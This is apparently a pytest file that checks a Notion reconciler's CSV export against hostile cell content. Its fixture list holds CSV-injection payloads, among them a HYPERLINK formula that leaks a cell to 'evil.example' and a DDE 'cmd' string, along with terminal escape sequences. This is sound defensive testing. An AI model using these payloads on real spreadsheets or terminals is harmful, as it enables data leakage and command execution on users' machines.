"""``reconciler export`` of hostile live text: no formula for spreadsheets, no split record, no
escape sequence on a terminal, and a CSV that ``rows_from`` reads back as the very same rows.

The database is filled through the emulator's API (``LocalNotion``), imported, then exported.
"""

from __future__ import annotations

import csv
import io
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from reconciler.manifest import load_desired_state
from tests.cli import test_import_export_doctor as adoption
from tests.cli.test_import_export_doctor import LocalNotion, run, text

repo = adoption.repo  # an empty repository as the current directory, no token
notion = adoption.notion  # its --local workspace, filled through the API

HOSTILE_NOTES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\tcmd|' /C calc'!A0",
    "\rreturn first",
    "first line\rsecond part, still the same cell",
    "'=written escaped already",
]
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def imported(notion: LocalNotion, repo: Path) -> Path:
    """A database of hostile notes, a negative score and an option led by '-', imported."""
    database, source = notion.database(
        "Formulas",
        {
            "Name": {"title": {}},
            "Notes": {"rich_text": {}},
            "Score": {"number": {}},
            "Stage": {"select": {"options": [{"name": "-Blocked"}, {"name": "Done"}]}},
        },
    )
    for number, notes in enumerate(HOSTILE_NOTES, start=1):
        notion.row(
            source,
            {
                "Name": {"title": text(f"row {number}")},
                "Notes": {"rich_text": text(notes)},
                "Score": {"number": -2 if number == 1 else number},
                "Stage": {"select": {"name": "-Blocked" if number % 2 else "Done"}},
            },
        )
    result = run("import", database, "--local")
    assert result.exit_code == 0, result.output
    return repo / "manifests" / "formulas.yaml"


def test_exported_cells_never_start_a_formula(imported: Path, repo: Path) -> None:
    """Every text cell led by = + - @ tab or CR starts with '; the numbers stay numbers."""
    assert run("export", "--local", "--format", "csv", "-o", "out").exit_code == 0

    records = list(csv.DictReader(io.StringIO((repo / "out/formulas.csv").read_text("utf-8"))))

    texts = [cell for record in records for name, cell in record.items() if name != "Score"]
    assert [cell for cell in texts if cell.startswith(FORMULA_LEADS)] == []
    assert records[0]["Notes"] == "'" + HOSTILE_NOTES[0]
    assert [record["Score"] for record in records][:2] == ["-2", "2"]


def test_a_carriage_return_in_text_never_splits_a_record(imported: Path, repo: Path) -> None:
    """CR inside a cell is quoted: as many records as rows, whatever reads the file."""
    assert run("export", "--local", "--format", "csv", "-o", "out").exit_code == 0

    raw = (repo / "out/formulas.csv").read_bytes()

    assert b'"first line\rsecond part, still the same cell"' in raw
    assert len(list(csv.reader(io.StringIO(raw.decode(), newline="")))) == 1 + len(HOSTILE_NOTES)


def test_rows_from_reads_the_export_back_as_the_same_rows(imported: Path, repo: Path) -> None:
    """The manifest with its rows replaced by rows_from: the export desires exactly the same."""
    assert run("export", "--local", "--format", "csv", "-o", "manifests/data").exit_code == 0
    manifest = yaml.safe_load(imported.read_text(encoding="utf-8"))
    manifest.pop("rows")
    manifest["rows_from"] = "data/formulas.csv"
    from_csv = repo / "from-csv" / "formulas.yaml"
    from_csv.parent.mkdir()
    (from_csv.parent / "data").mkdir()
    (repo / "manifests/data/formulas.csv").rename(from_csv.parent / "data/formulas.csv")
    from_csv.write_text(yaml.safe_dump(manifest, allow_unicode=True), encoding="utf-8")

    (inline,) = load_desired_state([str(imported)]).databases
    (read_back,) = load_desired_state([str(from_csv)]).databases

    assert {row.key: row.values for row in read_back.rows} == {
        row.key: row.values for row in inline.rows
    }
    assert sorted(str(row.values["Notes"]) for row in read_back.rows) == sorted(HOSTILE_NOTES)


@pytest.mark.skipif(sys.platform == "win32", reason="pseudo-terminals are POSIX")
def test_export_to_a_terminal_shows_escapes_instead_of_obeying_them(
    notion: LocalNotion, repo: Path
) -> None:
    """export -o - on a terminal: live text's OSC and CSI sequences arrive as visible text."""
    database, source = notion.database("Owned", {"Name": {"title": {}}, "Notes": {"rich_text": {}}})
    notion.row(
        source,
        {"Name": {"title": text("a")}, "Notes": {"rich_text": text("\x1b]0;owned\x07note\x1b[2J")}},
    )
    assert run("import", database, "--local").exit_code == 0
    notion.close()
    primary, secondary = pty.openpty()
    reconciler = Path(sys.executable).with_name("reconciler")
    environment = {k: v for k, v in os.environ.items() if not k.startswith("NOTION_")}
    with subprocess.Popen(
        [str(reconciler), "export", "--local", "--format", "csv", "-o", "-"],
        cwd=repo,
        env=environment,
        stdout=secondary,
        stderr=subprocess.DEVNULL,
    ) as process:
        os.close(secondary)
        shown = _read_all(primary)
        assert process.wait(timeout=60) == 0
    assert "\x1b" not in shown
    assert "\\x1b]0;owned\\x07note\\x1b[2J" in shown


def _read_all(descriptor: int) -> str:
    chunks: list[bytes] = []
    while True:
        try:
            chunk = os.read(descriptor, 65536)
        except OSError:  # the other end closed (EIO on Linux)
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(descriptor)
    return b"".join(chunks).decode("utf-8", errors="replace")
